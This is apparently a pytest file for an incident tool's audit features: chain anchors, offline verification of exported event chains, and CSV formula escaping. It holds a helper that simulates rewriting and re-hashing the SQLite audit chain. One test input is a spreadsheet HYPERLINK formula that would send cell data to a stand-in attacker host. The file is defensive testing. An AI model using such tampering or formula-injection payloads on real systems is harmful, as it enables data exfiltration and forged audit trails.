"""Audit that travels (issue 13): an anchor catches the re-hash attack the chain alone cannot, an
exported chain is verified with no database and names the line changed, removed or inserted, and
CSV exports neutralise spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from datetime import UTC, datetime
from pathlib import Path

from eim_tui.store.timeline import event_hash

from .conftest import Eim


def _rehash_from(store: Path, seq: int, summary: str) -> None:
    """The attack from outside (2026-12-04): change one event, re-hash it and every later one, and
    move the chain head — what anyone who can write the SQLite file can do."""
    with sqlite3.connect(store) as conn:
        conn.execute("UPDATE timeline_event SET summary = ? WHERE seq = ?", (summary, seq))
        rows = conn.execute("SELECT seq, incident_id, at, actor, kind, summary, data, prev_hash FROM timeline_event "
                            "WHERE seq >= ? ORDER BY seq", (seq,)).fetchall()
        prev = rows[0][7]  # the link to the event before it stays
        for number, incident, at, actor, kind, text, data, _ in rows:
            when = datetime.fromisoformat(at).replace(tzinfo=UTC)  # stored naive, meant as UTC
            digest = event_hash(number, incident, when, actor, kind, text, json.loads(data), prev)
            conn.execute("UPDATE timeline_event SET prev_hash = ?, hash = ? WHERE seq = ?", (prev, digest, number))
            prev = digest
        conn.execute("UPDATE chain_head SET hash = ? WHERE id = 1", (prev,))


def test_an_anchor_catches_a_rewritten_and_rehashed_chain(tmp_path: Path) -> None:
    store = tmp_path / "eim.db"
    eim = Eim(str(store), tmp_path)
    key = eim.new()
    eim("ack", key)
    anchors = tmp_path / "anchors.jsonl"
    first = json.loads(eim("audit", "anchor", "--out", str(anchors)).out)
    eim("note", key, "--kind", "observation", "--text", "502s from lb2")
    second = json.loads(eim("audit", "anchor", "--out", str(anchors)).out)
    assert second["seq"] > first["seq"] and len(anchors.read_text().splitlines()) == 2
    assert eim("audit", "verify", "--anchor", str(anchors)).out.startswith("timeline intact")

    _rehash_from(store, 1, "nothing to see here")
    assert eim("audit", "verify").out.startswith("timeline intact")  # the chain alone is fooled…
    caught = eim("audit", "verify", "--anchor", str(anchors), ok=False)  # …the anchor is not
    assert caught.status == 1
    assert caught.out.startswith(f"timeline BROKEN: the chain no longer passes through the head anchored "
                                 f"{first['at']} (event {first['seq']})")


def test_an_exported_chain_is_verified_offline_and_names_the_bad_line(eim, tmp_path: Path) -> None:
    for title in ("VPN drops", "Printer on fire", "Disk full"):
        eim.new(title)
    exported = eim("audit", "export").out
    lines = exported.splitlines()
    assert len(lines) >= 3 and all(json.loads(line)["hash"] for line in lines)
    chain = tmp_path / "chain.jsonl"
    chain.write_text(exported)
    # No database at all: EIM_DB names a server that is not there, and verify --file never asks it.
    offline = {"EIM_DB": "postgresql+psycopg://nobody@127.0.0.1:1/none"}
    intact = eim("audit", "verify", "--file", str(chain), db=None, env=offline)
    assert intact.out == f"timeline intact: {len(lines)} events in {chain}, every link verified\n"

    def verdict(changed: list[str]) -> str:
        chain.write_text("\n".join(changed) + "\n")
        result = eim("audit", "verify", "--file", str(chain), ok=False, db=None, env=offline)
        assert result.status == 1, result
        return result.out

    altered = [json.loads(line) for line in lines]
    altered[1]["summary"] = "logged by someone else"
    assert verdict([json.dumps(x) for x in altered]).startswith("timeline BROKEN at line 2 (seq 2, INC-000002, ")
    assert "altered after it was written" in verdict([json.dumps(x) for x in altered])

    removed = lines[:1] + lines[2:]
    assert verdict(removed).startswith("timeline BROKEN: event 2 is missing before line 2 (seq 3")

    assert "repeats seq 2 (inserted)" in verdict(lines[:2] + [lines[1]] + lines[2:])

    # A forged event that hashes correctly, with every later line renumbered to make room.
    rows = [json.loads(line) for line in lines]
    forged = dict(rows[0], seq=2, summary="forged", prev_hash=rows[0]["hash"])
    forged["hash"] = event_hash(2, forged["incident_id"], datetime.fromisoformat(forged["at"]), forged["actor"],
                                forged["kind"], forged["summary"], forged["data"], forged["prev_hash"])
    shifted = [dict(r, seq=r["seq"] + 1) for r in rows[1:]]
    out = verdict([json.dumps(rows[0]), json.dumps(forged), *map(json.dumps, shifted)])
    assert out.startswith("timeline BROKEN: line 2 (seq 2) was inserted")

    bad = verdict(["not json"])
    assert bad == f"{chain}: line 1 is not a timeline event from `eim audit export`\n"


def test_export_since_starts_later_and_still_verifies(eim, tmp_path: Path) -> None:
    eim.new("old one")
    everything = eim("audit", "export").out.splitlines()
    later = eim("audit", "export", "--since", "2099-01-01T00:00Z").out
    assert later == ""
    since = json.loads(everything[-1])["at"]
    part = eim("audit", "export", "--since", since).out.splitlines()
    assert part and json.loads(part[0])["seq"] > 1 or len(everything) == len(part)
    chain = tmp_path / "part.jsonl"
    chain.write_text("\n".join(part) + "\n")
    assert eim("audit", "verify", "--file", str(chain), db=None).out.startswith("timeline intact")


def test_bad_anchor_files_are_one_line_and_exit_2(eim, tmp_path: Path) -> None:
    eim.new()
    missing = eim("audit", "verify", "--anchor", str(tmp_path / "nope.jsonl"), ok=False)
    assert (missing.status, missing.err) == (2, f"eim: cannot read {tmp_path / 'nope.jsonl'}: No such file or directory\n")
    junk = tmp_path / "junk.jsonl"
    junk.write_text("hello\n")
    bad = eim("audit", "verify", "--anchor", str(junk), ok=False)
    assert (bad.status, bad.err) == (2, f"eim: {junk}: line 1 is not an anchor from `eim audit anchor`\n")


def test_csv_export_writes_formulas_as_text(eim) -> None:
    eim.new('=HYPERLINK("http://evil.example/?"&A1,"click")')
    eim.new("+1 from monitoring")
    eim.new("@SUM(A1:A9)")
    eim.new("plain title")
    rows = list(csv.DictReader(io.StringIO(eim("export", "--format", "csv").out)))
    titles = sorted(r["title"] for r in rows)
    assert titles == sorted(["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'+1 from monitoring",
                             "'@SUM(A1:A9)", "plain title"])
